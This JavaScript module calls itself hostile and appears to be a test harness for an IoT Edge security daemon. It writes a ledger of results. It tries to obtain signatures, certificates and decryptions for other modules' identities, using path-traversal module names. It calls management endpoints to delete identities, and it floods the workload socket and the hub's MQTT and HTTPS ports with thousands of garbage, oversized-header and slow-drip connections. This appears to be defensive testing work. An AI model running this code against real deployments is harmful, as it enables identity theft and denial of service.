// A module that means ill. It writes down what its asking for others' secrets gave, and then floods: its own workload
// socket and the hub's ports, each with 10,000 connections, requests without end, garbage and endless headers.
import fs from 'node:fs';
import http from 'node:http';
import net from 'node:net';
import path from 'node:path';
import tls from 'node:tls';

const ledger = process.env.LEDGER;
const note = (line) => fs.appendFileSync(ledger, `${line}\n`);
const socket = process.env.IOTEDGE_WORKLOADURI.replace('unix://', '');
const hub = process.env.IOTEDGE_GATEWAYHOSTNAME;
const manyConnections = 10_000;
const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
process.on('uncaughtException', (error) => note(`trouble ${error.message}`));

function ask(socketPath, method, target, body) {
  const text = body ? JSON.stringify(body) : '';
  return new Promise((resolve) => {
    // Node.js gives the body of a DELETE no length of its own accord: it would be the garbage before the next request.
    const request = http.request({ socketPath, method, path: `${target}?api-version=2022-08-03`, timeout: 10_000,
      headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(text) } }, (answer) => {
      answer.resume();
      answer.on('end', () => resolve(answer.statusCode));
    });
    request.on('timeout', () => request.destroy());
    request.on('error', (error) => resolve(error.code));
    request.end(text);
  });
}

// What is another's.
const secret = { keyId: 'primary', algo: 'HMACSHA256', data: 'YQ==' };
async function steal(where) {
  for (const victim of ['sensor', '$edgeHub', '$edgeAgent', 'edgeHub', '../modules/sensor', 'hostile%2F..%2Fsensor']) {
    const name = victim.includes('%') ? victim : encodeURIComponent(victim);
    const answers = [
      await ask(where, 'POST', `/modules/${name}/genid/1/sign`, secret),
      await ask(where, 'POST', `/modules/${name}/genid/1/certificate/server`, { commonName: 'x' }),
      await ask(where, 'POST', `/modules/${name}/certificate/identity`, {}),
      await ask(where, 'POST', `/modules/${name}/genid/1/decrypt`, { ciphertext: 'YQ==', initializationVector: 'YQ==' }),
    ];
    note(`asked ${victim} ${answers.join(' ')}`);
  }
}
note(`own ${await ask(socket, 'POST', `/modules/${process.env.IOTEDGE_MODULEID}/genid/1/sign`, secret)}`);
await steal(socket);
// Others' sockets, where the host's files can be seen.
const sockets = fs.existsSync(process.env.SOCKETS) ? fs.readdirSync(process.env.SOCKETS) : [];
for (const folder of sockets) {
  const other = path.join(process.env.SOCKETS, folder, 'workload.sock');
  note(`socket ${await ask(other, 'POST', '/modules/sensor/genid/1/sign', secret)}`);
}
for (const [method, target] of [['DELETE', '/modules/sensor'], ['DELETE', '/identities/sensor'],
  ['POST', '/identities'], ['POST', '/device/reprovision']]) {
  note(`managed ${await ask(process.env.MANAGEMENT, method, target, { moduleId: 'x' })}`);
}
note('refused');

// Connections that are opened and never closed by us; what each sends is up to `send`.
async function crowd(name, connect, send) {
  let opened = 0;
  let open = 0;
  for (let count = 0; count < manyConnections; ++count) {
    const connection = connect();
    connection.on('connect', () => { ++opened; ++open; send(connection, count); });
    connection.on('error', () => { /* that was the idea */ });
    connection.on('close', () => { --open; });
    connection.resume();
    while (connection.pending && open > 2000) await pause(10);
    if (count % 100 === 99) await pause(20);
  }
  note(`crowd ${name} ${opened}`);
}
const garbage = Buffer.from(Array.from({ length: 400 }, (_, at) => (at * 97) % 256));
function misbehave(connection, count) {
  if (count % 4 === 0) return;  // says nothing
  if (count % 4 === 1) return void connection.write(garbage);
  connection.write('GET /modules?api-version=2022-08-03 HTTP/1.1\r\nHost: x\r\n');
  if (count % 4 === 2) return void connection.write(`X: ${'a'.repeat(100_000)}`);
  const drip = setInterval(() => connection.write('X-More: 1\r\n'), 50);
  connection.on('close', () => clearInterval(drip));
}

async function flood() {
  const agent = new http.Agent({ keepAlive: true });
  for (;;) {
    await new Promise((resolve) => {
      const request = http.request({ socketPath: socket, agent, method: 'GET', path: '/modules?api-version=2022-08-03' },
        (answer) => { answer.resume(); answer.on('end', resolve); });
      request.on('error', () => setTimeout(resolve, 5));
      request.end();
    });
  }
}

for (let worker = 0; worker < 4; ++worker) void flood();
const secure = (port) => () => tls.connect({ host: hub, port, rejectUnauthorized: false });
await Promise.all([
  crowd('workload', () => net.connect(socket), misbehave),
  crowd('mqtt', () => net.connect(8883, hub), misbehave),
  crowd('https', () => net.connect(443, hub), misbehave),
]);
// And those that get as far as TLS.
for (let count = 0; count < 300; ++count) {
  for (const port of [8883, 443]) {
    const connection = secure(port)();
    connection.on('secureConnect', () => misbehave(connection, count));
    connection.on('error', () => { /* that was the idea */ });
  }
  await pause(10);
}
note('flooded');
setInterval(() => { /* the requests go on */ }, 1000);
